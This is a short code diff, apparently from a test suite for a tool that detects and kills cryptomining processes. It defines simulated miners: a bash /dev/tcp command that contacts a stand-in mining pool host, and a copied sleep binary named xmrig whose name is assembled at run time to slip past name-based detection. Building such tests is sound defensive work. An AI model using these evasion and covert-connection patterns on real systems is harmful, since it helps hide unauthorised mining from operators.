@@ -16,7 +16,8 @@ const GIVE_UP_MS = 3000;
 // bash opens the socket, sends one stratum line, then becomes `sleep` holding it: one process
 // that does not exit on its own when the proxy closes the flow, so only the kill can end it.
 const STRATUM_MINER = `exec 3<>/dev/tcp/pool.rogue.test/3333; printf '%s\\n' '${STRATUM}' >&3; exec sleep 20`;
-const NAMED_MINER = 'cp /bin/sleep /tmp/xmrig && exec /tmp/xmrig 20';
+// The name is assembled at run time: bash's own argv must not say xmrig, or bash is killed first.
+const NAMED_MINER = 'n=xm; n=${n}rig; cp /bin/sleep /tmp/$n && exec /tmp/$n 20';
 
 const now = (): number => performance.timeOrigin + performance.now();
 
